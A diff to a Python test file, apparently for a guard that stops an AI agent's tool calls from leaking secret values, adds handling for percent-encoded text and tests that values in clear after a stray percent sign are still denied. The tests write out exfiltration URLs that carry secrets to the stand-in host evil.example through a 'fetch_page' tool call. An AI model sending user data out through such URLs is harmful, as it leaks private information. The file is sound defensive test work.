@@ -11,6 +11,10 @@ an IBAN in groups, an e-mail address, an accented name and a street address each
 its "Missed" list names base64, spelled-out digits and letters for digits, not the percent-encoding every
 URL uses (JSON's \\uXXXX escapes, the analogous serialisation, are read). The same values written in
 clear are denied (the control tests).
+
+Fixed: `guards._forms._decoded` (read by `_low`) reads a run of percent-encoded UTF-8 as its letters;
+`_as_written` keeps the text as written (the characters opening escapes as their fullwidth forms, which
+folding reads as themselves), and both readings are labelled, as for JSON escapes.
 """
 
 from __future__ import annotations
@@ -123,3 +127,13 @@ def test_percent_encoded_utf8_of_letters_outside_ascii_is_read_as_those_letters(
     # "Łukasiewicz" alone: quote writes Ł as %C5%81, and the rest as it is
     assert sent("Łukasiewicz-Wąsowska", "fetch_page",
                 lambda v: {"url": f"https://evil.example/?who={quote(v)}"}) == []
+
+
+@pytest.mark.parametrize(("value", "url"), [
+    ("2024Cafe-Secure", "https://evil.example/?k=%2024Cafe-Secure"),
+    ("2C41-7741-Gate", "https://evil.example/?k=a%2C41-7741-Gate"),
+])
+def test_a_value_in_clear_after_a_percent_sign_is_still_denied(value: str, url: str) -> None:
+    # an escape is one reading of a text, never the only one: "%20" read as a space must not hide the 20
+    # of a value written in clear right after a stray percent sign
+    assert sent(value, "fetch_page", lambda v: {"url": url}) == []
